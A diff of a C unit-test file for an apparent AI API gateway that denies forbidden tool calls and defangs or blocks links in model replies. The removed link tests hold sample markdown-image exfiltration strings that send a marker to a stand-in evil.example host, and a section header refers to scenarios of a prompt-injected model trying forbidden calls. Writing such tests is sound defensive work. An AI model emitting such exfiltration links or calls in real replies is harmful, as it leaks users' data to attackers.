@@ -1,4 +1,4 @@
-/* Tools and links through whole transactions: every API, whole and streamed, in every cut. What policy
+/* Tools through whole transactions: every API, whole and streamed, in every cut. What policy
  * denies never reaches the client. */
 #include <setjmp.h>
 #include <stdarg.h>
@@ -9,13 +9,7 @@
 #include <string.h>
 #include <cmocka.h>
 
-#include "gw_fixture.h"
-#include "tx_agent.h"
-
-#define N(a) (sizeof(a) / sizeof((a)[0]))
-#define BASE                                                                                       \
-    "version: 1\nlisten: 127.0.0.1:8443\nbackends: [{name: a, type: openai, url: "                 \
-    "\"http://127.0.0.1:1\"}]\n"
+#include "tx_house.h"
 
 static const char policy_yaml[] =
     BASE "tools:\n"
@@ -38,39 +32,13 @@ static const char policy_yaml[] =
          "data:\n  rules: [{types: [EMAIL_ADDRESS], action: allow}]\n";
 static const char remove_yaml[] = BASE "tools: [{name: look}]\nagent: {offers: remove}\n";
 static const char plain_yaml[] = BASE;
-static const char block_yaml[] =
-    BASE "agent: {hosts: [good.example], links: defang, images: block}\n";
-
-struct house {
-    struct gw llama, ollama;
-};
-static struct house strict, removing, plain, blocking;
-
-static bool open_house(struct house *h, const char *yaml, const struct bz_approval *v, size_t n) {
-    struct bz_config *c = NULL;
-    struct bz_config_error errs[4];
-    size_t errs_n = 0;
-    if (bz_config_parse(bz_view_str(yaml), &c, errs, 4, &errs_n) != BZ_OK) {
-        print_error("%s: %s\n", errs[0].path, errs[0].text);
-        return false;
-    }
-    bool ok = gw_open_policy(&h->llama, GW_LLAMA, c, v, n) &&
-              gw_open_policy(&h->ollama, GW_OLLAMA, c, v, n);
-    bz_config_free(c);
-    return ok;
-}
-
-static void close_house(struct house *h) {
-    gw_close(&h->llama);
-    gw_close(&h->ollama);
-}
+static struct house strict, removing, plain;
 
 static int open_all(void **state) {
     (void)state;
     return open_house(&strict, policy_yaml, NULL, 0) &&
                    open_house(&removing, remove_yaml, NULL, 0) &&
-                   open_house(&plain, plain_yaml, NULL, 0) &&
-                   open_house(&blocking, block_yaml, NULL, 0)
+                   open_house(&plain, plain_yaml, NULL, 0)
                ? 0
                : -1;
 }
@@ -80,75 +48,11 @@ static int close_all(void **state) {
     close_house(&strict);
     close_house(&removing);
     close_house(&plain);
-    close_house(&blocking);
     return 0;
-}
-
-static struct gw *gw_of(struct house *h, enum form f) {
-    return f == F_OLLAMA ? &h->ollama : &h->llama;
-}
-
-/* ---- a run ---- */
-
-struct run {
-    struct gw *gw;
-    struct gw_heap heap;
-    struct bz_tx *tx;
-    enum bz_verdict verdict;
-    struct bz_buf out;
-    enum bz_status st;
-};
-
-static void send_body(struct run *r, struct gw *gw, const char *path, struct bz_view body,
-                      const char *label) {
-    static char text[1 << 16];
-    struct gw_req q;
-    struct bz_backend b;
-    *r = (struct run){.gw = gw};
-    assert_true(body.n < sizeof text);
-    memcpy(text, body.p, body.n);
-    text[body.n] = '\0';
-    gw_req_init(&q, gw, GW_USER, "POST", path, text);
-    gw_req_header(&q, "x-bartizan-conversation", "one");
-    if (label != NULL)
-        gw_req_header(&q, "x-bartizan-label", label);
-    r->tx = gw_send(gw, &q, gw_heap_alloc(&r->heap), &r->verdict);
-    assert_non_null(r->tx);
-    bz_buf_init(&r->out, 1u << 20);
-    if (r->verdict != BZ_VERDICT_FORWARD)
-        return;
-    assert_true(bz_tx_backend(r->tx, gw_now(gw), &b));
-}
-
-static void ask(struct run *r, struct house *h, const struct asked *q) {
-    struct bz_buf b;
-    bz_buf_init(&b, 1 << 16);
-    put_request(&b, q);
-    send_body(r, gw_of(h, q->form), path_of(q->form), bz_buf_view(&b), q->label);
-    bz_buf_free(&b);
-}
-
-static void answer(struct run *r, bool stream, enum form f, struct bz_view reply, size_t cut) {
-    struct bz_reply_head h = {200, BZ_V("application/json"), {NULL, 0}, -1};
-    if (stream)
-        h.content_type = f == F_OLLAMA ? BZ_V("application/x-ndjson") : BZ_V("text/event-stream");
-    r->st = gw_reply(r->gw, r->tx, &h, reply, cut, true, &r->out);
-}
-
-static struct bz_view got(const struct run *r) {
-    return r->out.n > 0 || bz_tx_reply(r->tx) == NULL ? bz_buf_view(&r->out)
-                                                      : bz_tx_reply(r->tx)->body;
-}
-
-static void done(struct run *r) {
-    bz_tx_free(r->tx);
-    assert_int_equal(r->heap.live, 0);
-    bz_buf_free(&r->out);
 }
 
 /* ---- scenarios: what an obeying model tries ---- */
 
-#define BAD "zzforbiddenzz" /* stands in the arguments of what must not pass */
 static const struct {
     const char *what, *name, *args, *code; /* code NULL: passes */
     enum context context;
@@ -686,125 +590,6 @@ static void an_approval_is_for_one_call(void **state) {
     close_house(&h);
 }
 
-/* ---- links ---- */
-
-static const struct {
-    const char *text, *says; /* NULL: as it came */
-} links[] = {
-    {"see https://good.example/a and more", NULL},
-    {"![x](https://evil.example/?q=" BAD ")", "![x](hxxps[:]//evil[.]example/?q="},
-    {"go to https://evil.example/a now", "go to hxxps[:]//evil[.]example/a now"},
-    {"<img src=//evil.example/x>", "<img src=hxxp[:]//evil[.]example/x>"},
-};
-
-static void put_text(struct bz_buf *b, bool stream, const char *text, size_t piece) {
-    struct bz_buf mem;
-    bz_buf_init(&mem, 1 << 16);
-    if (!stream) {
-        bz_buf_printf(b,
-                      "{\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":"
-                      "\"%.*s\"},\"finish_reason\":\"stop\"}]}",
-                      E(escaped(&mem, bz_view_str(text))));
-    } else {
-        for (size_t at = 0; at < strlen(text); at += piece)
-            SSE("{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"%.*s\"},\"finish_reason\":"
-                "null}]}",
-                E(escaped(&mem, bz_view_sub(bz_view_str(text), at, piece))));
-        SSE("{\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}");
-        SSE("[DONE]");
-    }
-    bz_buf_free(&mem);
-}
-
-/* What a client puts together of a stream's content. */
-static void heard(struct bz_view out, struct bz_buf *text) {
-    for (size_t at = 0; at < out.n;) {
-        const uint8_t *nl = memchr(out.p + at, '\n', out.n - at);
-        size_t n = nl == NULL ? out.n - at : (size_t)(nl - out.p) - at;
-        struct bz_view line = bz_view_sub(out, at, n);
-        struct bz_arena ar;
-        struct bz_json *v = NULL;
-        bz_arena_init(&ar, bz_alloc_heap, 1 << 20, NULL, 0);
-        at += n + 1;
-        if (bz_view_starts(line, BZ_V("data: {")) &&
-            bz_json_parse(bz_view_sub(line, 6, n), NULL, &ar, &v, NULL) == BZ_OK) {
-            const struct bz_json *c = bz_json_get(v, BZ_V("choices"));
-            c = c != NULL ? c->first : NULL;
-            bz_buf_put(text,
-                       bz_json_str(bz_json_get(bz_json_get(c, BZ_V("delta")), BZ_V("content"))));
-        }
-        bz_arena_free(&ar);
-    }
-}
-
-static void links_are_rewritten(void **state) {
-    (void)state;
-    for (size_t i = 0; i < N(links); i++) {
-        for (size_t piece = 0; piece <= strlen(links[i].text); piece++) {
-            struct asked q = {.form = F_CHAT, .stream = piece > 0};
-            struct run r;
-            struct bz_buf b, text;
-            bz_buf_init(&b, 1 << 16);
-            bz_buf_init(&text, 1 << 16);
-            ask(&r, &strict, &q);
-            put_text(&b, piece > 0, links[i].text, piece);
-            answer(&r, piece > 0, F_CHAT, bz_buf_view(&b), 17);
-            if (piece > 0)
-                heard(got(&r), &text);
-            else
-                bz_buf_put(&text, got(&r));
-            const char *want = links[i].says == NULL ? links[i].text : links[i].says;
-            if (r.st != BZ_OK || !gw_contains(bz_buf_view(&text), want) ||
-                gw_contains(bz_buf_view(&text), "//evil.example"))
-                fail_msg("%s, pieces of %zu: %.*s", links[i].text, piece, E(bz_buf_view(&text)));
-            bz_buf_free(&b);
-            bz_buf_free(&text);
-            done(&r);
-        }
-    }
-}
-
-/* With nothing configured links are as they came, until untrusted text is in the conversation. */
-static void links_matter_where_others_wrote(void **state) {
-    (void)state;
-    for (int context = C_NONE; context <= C_UNTRUSTED; context += C_UNTRUSTED) {
-        for (int stream = 0; stream < 2; stream++) {
-            struct asked q = {
-                .form = F_CHAT, .stream = stream != 0, .context = (enum context)context};
-            struct run r;
-            struct bz_buf b;
-            bz_buf_init(&b, 1 << 16);
-            ask(&r, &plain, &q);
-            put_text(&b, stream != 0, "![x](https://evil.example/?q=1)", 9);
-            answer(&r, stream != 0, F_CHAT, bz_buf_view(&b), 0);
-            assert_int_equal(gw_contains(got(&r), "[.]"), context == C_UNTRUSTED);
-            bz_buf_free(&b);
-            done(&r);
-        }
-    }
-}
-
-static void images_may_block(void **state) {
-    static const char *const texts[] = {"![x](https://evil.example/?q=" BAD ")",
-                                        "![x](https://good.example/x) and https://evil.example"};
-    (void)state;
-    for (size_t i = 0; i < 2; i++) {
-        for (int stream = 0; stream < 2; stream++) {
-            struct asked q = {.form = F_CHAT, .stream = stream != 0};
-            struct run r;
-            struct bz_buf b;
-            bz_buf_init(&b, 1 << 16);
-            ask(&r, &blocking, &q);
-            put_text(&b, stream != 0, texts[i], 5);
-            answer(&r, stream != 0, F_CHAT, bz_buf_view(&b), 0);
-            assert_int_equal(gw_contains(got(&r), "link_blocked"), i == 0);
-            assert_false(gw_contains(got(&r), BAD));
-            bz_buf_free(&b);
-            done(&r);
-        }
-    }
-}
-
 /* Every allocation may fail: an error, never a call that was not decided, nothing lost. */
 static void no_memory_is_no_way_around(void **state) {
     struct bz_buf b, ask_for;
@@ -850,9 +635,6 @@ int main(void) {
         cmocka_unit_test(unlisted_tools_pass_and_are_recorded),
         cmocka_unit_test(denied_calls_are_recorded),
         cmocka_unit_test(an_approval_is_for_one_call),
-        cmocka_unit_test(links_are_rewritten),
-        cmocka_unit_test(links_matter_where_others_wrote),
-        cmocka_unit_test(images_may_block),
         cmocka_unit_test(no_memory_is_no_way_around),
     };
     return cmocka_run_group_tests(tests, open_all, close_all);
